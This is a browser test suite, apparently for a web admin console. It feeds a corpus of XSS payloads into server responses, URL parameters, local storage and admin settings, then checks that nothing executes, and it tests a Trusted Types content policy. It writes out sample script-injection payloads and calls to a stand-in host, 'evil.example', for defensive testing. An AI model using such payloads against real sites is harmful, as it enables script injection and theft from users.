// Hostile HTML in every text that the console shows, in a real browser: nothing of it runs and nothing leaves (requirements H01–H06).
// The content policy is switched off here, so that what holds is the console itself.
import type { Page, Route } from "playwright-core";
import { describe, expect, it } from "vitest";
import { hostileHtml, together } from "#test/seeds/hostile-html.ts";
import { screenshot } from "#test/worlds/browser.ts";
import { furnishFirst } from "#test/worlds/console-pages.ts";
import { createConsoleWorld, type Person, type Window } from "#test/worlds/console-world.ts";

const DESK = { width: 1440, height: 900 };
/** Payloads in one text of a row: a hundred rows show them all. */
const PER_ROW = 6;
const inRows = Array.from({ length: Math.ceil(hostileHtml.length / PER_ROW) }, (_, row) =>
  hostileHtml.slice(row * PER_ROW, (row + 1) * PER_ROW).join(" "),
);
/** All payloads in one text, and in one that is shown as HTML. */
const everything = hostileHtml.join("\n\n");
const everythingHtml = together(hostileHtml);
const world = createConsoleWorld();
furnishFirst(world);

/** The same value with every text in it replaced. */
function poisoned(value: unknown, text: string): unknown {
  if (typeof value === "string") return text;
  if (Array.isArray(value)) return value.map((item) => poisoned(item, text));
  if (typeof value !== "object" || value === null) return value;
  const entries = Object.entries(value).map(([name, field]) => {
    return [name, name === "footer_html" ? everythingHtml : poisoned(field, text)];
  });
  return Object.fromEntries(entries);
}

/** A list gets as many rows as it takes; anything else holds all payloads. */
function poisonedData(data: unknown): unknown {
  // Notice, about and home page.
  if (typeof data === "string") return everythingHtml;
  if (!Array.isArray(data) || data.length === 0) return poisoned(data, everything);
  const [row] = data;
  return inRows.map((text, index) => {
    const bad = poisoned(row, text);
    return typeof bad === "object" && bad !== null && "id" in bad ? { ...bad, id: index + 1 } : bad;
  });
}

/** The real server's answer with every text of its data replaced; days and versions too. */
async function poison(route: Route): Promise<void> {
  const response = await route.fetch();
  const answer: { data: unknown } = await response.json();
  await route.fulfill({ response, json: { ...answer, data: poisonedData(answer.data) } });
}

/** A window without the content policy, in which whatever runs leaves a mark. */
async function visitUnprotected(person?: Person): Promise<Window & { readonly ran: () => Promise<unknown> }> {
  const window = await world.visit(person, DESK, { isUnprotected: true });
  await window.page.addInitScript(() => {
    const mark = () => localStorage.setItem("ran", "true");
    Object.assign(globalThis, { alert: mark, confirm: mark, prompt: mark });
  });
  return { ...window, ran: () => window.page.evaluate(() => localStorage.getItem("ran")) };
}

/** What in the page could act: handlers, addresses that run, elements that bring something along. */
function armed(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const runs = /^(javascript|vbscript|data:text)/i;
    const isOwn = (address: string | null) =>
      address !== null && new URL(address, location.href).origin === location.origin;
    const brings = (element: Element) => {
      if (element instanceof HTMLScriptElement) return !isOwn(element.getAttribute("src"));
      if (element instanceof HTMLLinkElement) return !isOwn(element.getAttribute("href"));
      if (element instanceof HTMLMetaElement) return element.httpEquiv === "refresh";
      return /^(iframe|object|embed|base|portal|marquee|math|xmp|template)$/i.test(element.tagName);
    };
    return [...document.querySelectorAll("*")].flatMap((element) => {
      const attributes = [...element.attributes].filter(
        // Blanks and control characters in front of a scheme do not count.
        ({ name, value }) => /^on|^srcdoc$/i.test(name) || runs.test(value.replace(/[\s\p{Cc}]/gu, "")),
      );
      // What is only shown, as the value of a field is.
      const found = attributes.filter(({ name }) => !/^(value|title|aria-label|placeholder|alt)$/.test(name));
      const text = element.outerHTML.slice(0, 200);
      return [...found.map(({ name }) => `${name} of ${text}`), ...(brings(element) ? [text] : [])];
    });
  });
}

async function settled(page: Page): Promise<void> {
  await page.waitForLoadState("networkidle");
  // A page that has not been drawn yet has nothing that loads, either.
  await page.locator("main").first().waitFor();
  await page.waitForFunction(() => document.querySelector(".tg-bone, .ant-spin-spinning") === null);
}

describe(`${hostileHtml.length} payloads`, () => {
  it("run and are found, where no code cleans them", async () => {
    const { page, context, ran } = await visitUnprotected();
    await page.goto("/login");
    await page.evaluate((text) => {
      const box = document.createElement("div");
      document.body.append(box);
      box.innerHTML = text;
    }, everythingHtml);
    await expect.poll(ran).toBe("true");
    expect((await armed(page)).length).toBeGreaterThan(100);
    await context.close();
  });

  const pages: readonly (readonly [Person | "guests", string])[] = [
    ["guests", "/"],
    ["guests", "/about"],
    ["guests", "/login"],
    ["guests", "/chat"],
    ["guests", "/pricing"],
    ["lihua", "/token"],
    ["lihua", "/token/edit/2"],
    ["lihua", "/topup"],
    ["lihua", "/partnerplan"],
    ["lihua", "/playground"],
    ["lihua", "/setting"],
    ["lihua", "/user/edit"],
    ["root", "/dashboard"],
    ["root", "/log"],
    ["root", "/channel"],
    ["root", "/channel/edit/1"],
    ["root", "/redemption"],
    ["root", "/redemption/edit/1"],
    ["root", "/user"],
    ["root", "/user/edit/2"],
    ["root", "/setting?tab=operation"],
    ["root", "/setting?tab=system"],
    ["root", "/setting?tab=other"],
  ];

  it.each(pages)("in every text that the server sends to %s on %s", async (person, path) => {
    const { page, context, asked, ran, complaints } = await visitUnprotected(
      person === "guests" ? undefined : person,
    );
    await page.route("**/api/**", poison);
    await page.goto(path);
    await settled(page);
    await screenshot(page, `corpus${path.replace(/\W+/g, "-")}`);
    expect(await armed(page)).toEqual([]);
    expect(await ran()).toBe(null);
    expect(asked.filter((url) => !url.startsWith(world.server.url) && !url.startsWith("data:"))).toEqual([]);
    expect(complaints.filter((text) => /TypeError|ReferenceError|is not/.test(text))).toEqual([]);
    // A page asks again while it is open: what is still on its way has no answer once its window is closed.
    await page.unrouteAll({ behavior: "wait" });
    await context.close();
  });

  it("in the message of a refusal, and in what was copied from an address", async () => {
    const { page, context, ran } = await visitUnprotected();
    await page.route("**/api/user/login", (route) =>
      route.fulfill({ json: { success: false, message: everything, data: null } }),
    );
    await page.goto(`/login?expired=${encodeURIComponent(everything.slice(0, 2000))}`);
    await page.getByRole("textbox", { name: "用户名" }).fill("<img src=x onerror=alert(1)>");
    await page.getByRole("textbox", { name: "密码" }).fill("<script>alert(1)</script>");
    await page.getByRole("button", { name: "登录", exact: true }).click();
    await page.getByRole("alert").first().waitFor();
    expect(await armed(page)).toEqual([]);
    for (const path of [
      "/register?aff=",
      "/user/reset?email=",
      "/log?model_name=",
      "/token?keyword=",
      "/nowhere?",
    ]) {
      await page.goto(path + encodeURIComponent(everything.slice(0, 2000)));
      await settled(page);
      expect(await armed(page), path).toEqual([]);
    }
    expect(await ran()).toBe(null);
    await context.close();
  });

  it("in local storage, which any script may have written", async () => {
    const { page, context, ran } = await visitUnprotected("root");
    await page.addInitScript((text) => {
      for (const key of [
        "status",
        "footer_html",
        "notice",
        "logo",
        "system_name",
        "chat_link",
        "channel_models",
        "theme_mode",
      ])
        localStorage.setItem(key, text);
    }, everything);
    for (const path of ["/", "/token", "/channel/add"]) {
      await page.goto(path);
      await settled(page);
      expect(await armed(page), path).toEqual([]);
    }
    expect(await ran()).toBe(null);
    await context.close();
  });

  it("saved by an administrator as notice, about, home page and footer", async () => {
    const { page, context, asked, ran } = await visitUnprotected();
    // A text with a NUL is refused as a whole.
    const storable = hostileHtml.filter((text) => !text.includes("\0"));
    for (let start = 0; start < storable.length; start += 130) {
      const text = together(storable.slice(start, start + 130));
      for (const key of ["Notice", "About", "HomePageContent", "Footer"]) await world.setOption(key, text);
      for (const path of ["/", "/about"]) {
        await page.goto(path);
        await settled(page);
        expect(await armed(page), path).toEqual([]);
      }
    }
    expect(await ran()).toBe(null);
    expect(asked.filter((url) => !url.startsWith(world.server.url) && !url.startsWith("data:"))).toEqual([]);
    await context.close();
  });
});

describe("the content policy behind it", () => {
  it("refuses markup and scripts made of text (Trusted Types), other sites' scripts and calls to them", async () => {
    const { page, context } = await world.visit("root");
    await page.goto("/token");
    await settled(page);
    const results = await page.evaluate(async () => {
      const attempt = async (act: () => unknown) => {
        try {
          await act();
          return "done";
        } catch (error) {
          return error instanceof Error ? error.name : "refused";
        }
      };
      const box = document.createElement("div");
      document.body.append(box);
      const script = (fill: (element: HTMLScriptElement) => void) =>
        attempt(() => {
          const element = document.createElement("script");
          fill(element);
          document.head.append(element);
        });
      return {
        markup: await attempt(() => Object.assign(box, { innerHTML: "<img src=x onerror=alert(1)>" })),
        text: await attempt(() => Object.assign(box, { innerHTML: "1 & 2" })),
        address: await script((element) => Object.assign(element, { src: "https://evil.example/x.js" })),
        code: await script((element) => Object.assign(element, { text: "window.ran = true" })),
        policy: await attempt(() =>
          // Not in the DOM library of TypeScript yet.
          (
            window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
          ).trustedTypes.createPolicy("mine", {}),
        ),
        called: await attempt(() => fetch("https://evil.example/")),
        ran: "ran" in window,
      };
    });
    expect(results).toEqual({
      markup: "TypeError",
      text: "done",
      address: "TypeError",
      code: "TypeError",
      policy: "TypeError",
      called: "TypeError",
      ran: false,
    });
    await context.close();
  });

  it("leaves Trusted Types to Cloudflare's script while the human check is on", async () => {
    const policy = async () => (await fetch(world.server.url)).headers.get("content-security-policy") ?? "";
    expect(await policy()).toContain("trusted-types default dompurify");
    await world.setOption("ServerAddress", world.server.url);
    await world.setOption("TurnstileSiteKey", "site-key");
    await world.setOption("TurnstileSecretKey", "secret-key");
    await world.setOption("TurnstileCheckEnabled", "true");
    expect(await policy()).toContain("https://challenges.cloudflare.com");
    expect(await policy()).not.toContain("trusted-types");
    await world.setOption("TurnstileCheckEnabled", "false");
  });
});
